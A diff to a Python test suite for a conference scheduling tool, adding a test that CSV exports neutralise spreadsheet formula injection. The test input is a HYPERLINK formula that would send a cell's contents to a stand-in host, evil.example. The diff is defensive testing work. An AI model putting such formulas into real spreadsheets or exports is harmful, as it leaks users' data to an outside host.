@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import json
 import os
@@ -267,6 +268,19 @@ def test_user_text_never_becomes_markup(tmp_path: Path) -> None:
     day = Calendar.from_ical((tmp_path / "day.ics").read_bytes())
     assert str(day.walk("VEVENT")[0]["SUMMARY"]) == HOSTILE
     assert "\\|" in (tmp_path / "grid.md").read_text()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
+def test_grid_csv_cells_never_run_as_formulas(tmp_path: Path, start: str) -> None:
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
+    plan = schedule_sessions([Pitch(formula, "Ana", 9)], [Room(formula, 50)], make_slots(1))
+    write_schedule(plan, tmp_path)
+    with (tmp_path / "grid.csv").open(newline="") as fh:
+        header, row = list(csv.reader(fh))
+    assert header[3] == "'" + formula
+    assert row[3] == f"'{formula} (Ana)"
+    assert json.loads((tmp_path / "schedule.json").read_text())["sessions"][0]["title"] \
+        == formula  # JSON is data for programs: kept exactly
 
 
 def test_grid_is_right_to_left_for_arabic(tmp_path: Path) -> None:
